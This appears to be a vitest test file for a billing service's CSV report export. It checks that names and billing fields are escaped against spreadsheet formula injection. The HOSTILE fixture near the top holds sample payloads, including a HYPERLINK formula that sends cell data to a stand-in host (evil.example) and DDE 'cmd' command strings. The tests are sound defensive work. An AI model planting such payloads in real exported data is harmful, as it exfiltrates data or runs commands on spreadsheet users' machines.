import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../src/http/report-reply.ts';
import { get, insert, letterFact, openTestApp, organisation, service, smsFact, type TestApp } from './helpers.ts';

// Names and billing fields come from producers: each of these would run as a formula in a
// spreadsheet if written as it is.
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
const HOSTILE = {
  equals: HYPERLINK,
  plus: '+1+cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  fullWidth: '\uFF1D1+1',
};
const ORG = 'a5000000-0000-4000-8000-000000000001';
const S1 = 'c5000000-0000-4000-8000-000000000001';
const S2 = 'c5000000-0000-4000-8000-000000000002';
const S3 = 'c5000000-0000-4000-8000-000000000003';
const DAY = '2021-06-01';
const RANGE = `start_date=${DAY}&end_date=${DAY}`;

let t: TestApp;
beforeAll(async () => {
  t = await openTestApp();
  await insert(t.client, 'ref_organisations', [organisation({ id: ORG, name: HOSTILE.plus, po: HOSTILE.at, names: HOSTILE.tab, emails: HOSTILE.cr, reference: HOSTILE.minus })]);
  await insert(t.client, 'ref_services', [
    service({ id: S1, name: HOSTILE.equals, organisation_id: ORG }),
    service({ id: S2, name: 'Café £ services, "quoted"\nsecond line' }),
    service({ id: S3, name: HOSTILE.fullWidth }),
  ]);
  await insert(t.client, 'fact_billing', [
    smsFact({ day: DAY, service_id: S1, units: 2, rate: '0.02' }),
    smsFact({ day: DAY, service_id: S2, units: 1, rate: '0.02' }),
    letterFact({ day: DAY, service_id: S3, postage: 'second', rate: '0.5', letters: 1 }),
  ]);
});
afterAll(() => t.close());

/** RFC 4180: rows of cells; a quoted cell may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The CSV as a spreadsheet reads it: rows of cells, the byte order mark checked and dropped. */
function cells(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return parseCsv(body.slice(1));
}

describe('csvCell', () => {
  it('prefixes a single quote to text that would start a formula, and to nothing else', () => {
    for (const v of Object.values(HOSTILE)) expect(csvCell(v)).toBe(`'${v}`);
    expect(csvCell('\0x')).toBe("'\0x");
    for (const v of ['Busy', '', ' =not a formula', '1 first class letters at 50p\n', "'already quoted", 'a=b']) expect(csvCell(v)).toBe(v);
    // Numbers are ours: a negative number stays a number.
    expect(csvCell(-1.5)).toBe(-1.5);
    expect(csvCell(0)).toBe(0);
    expect(csvCell(null)).toBe(null);
  });
});

describe('CSV reports with hostile names', () => {
  it('volumes-by-service: every hostile cell neutralised, the JSON unchanged, with a BOM and a file name', async () => {
    const url = `/platform-stats/volumes-by-service?${RANGE}`;
    const res = await get(t.app, `${url}&format=csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="volumes-by-service_${DAY}_${DAY}.csv"`);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const rows = cells(res.body);
    const json = (await get(t.app, url)).json() as Array<Record<string, unknown>>;
    expect(rows[0]).toEqual(Object.keys(json[0]!));
    const byId = new Map(rows.slice(1).map((r) => [r[1], r]));
    expect(byId.get(S1)?.slice(0, 3)).toEqual([`'${HOSTILE.equals}`, S1, `'${HOSTILE.plus}`]);
    expect(byId.get(S3)?.[0]).toBe(`'${HOSTILE.fullWidth}`);
    // Quotes, commas, newlines and "£" survive as they are.
    expect(byId.get(S2)?.[0]).toBe('Café £ services, "quoted"\nsecond line');
    // The JSON is for programs, not spreadsheets: the names as stored.
    expect(json.map((r) => r.service_name).sort()).toEqual([HOSTILE.equals, 'Café £ services, "quoted"\nsecond line', HOSTILE.fullWidth].sort());
    // Not a cell of the whole file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
  });

  it('billing report: names and billing fields neutralised, numbers as numbers', async () => {
    const res = await get(t.app, `/platform-stats/data-for-billing-report?${RANGE}`, { accept: 'text/csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="data-for-billing-report_${DAY}_${DAY}.csv"`);
    const [header, ...rows] = cells(res.body);
    const row = Object.fromEntries(header!.map((h, i) => [h, rows.find((r) => r.includes(S1))![i]]));
    expect(row).toMatchObject({
      organisation_name: `'${HOSTILE.plus}`,
      service_name: `'${HOSTILE.equals}`,
      purchase_order_number: `'${HOSTILE.at}`,
      contact_names: `'${HOSTILE.tab}`,
      contact_email_addresses: `'${HOSTILE.cr}`,
      billing_reference: `'${HOSTILE.minus}`,
      sms_cost: '0.04',
      sms_chargeable_units: '2',
    });
    for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
  });
});
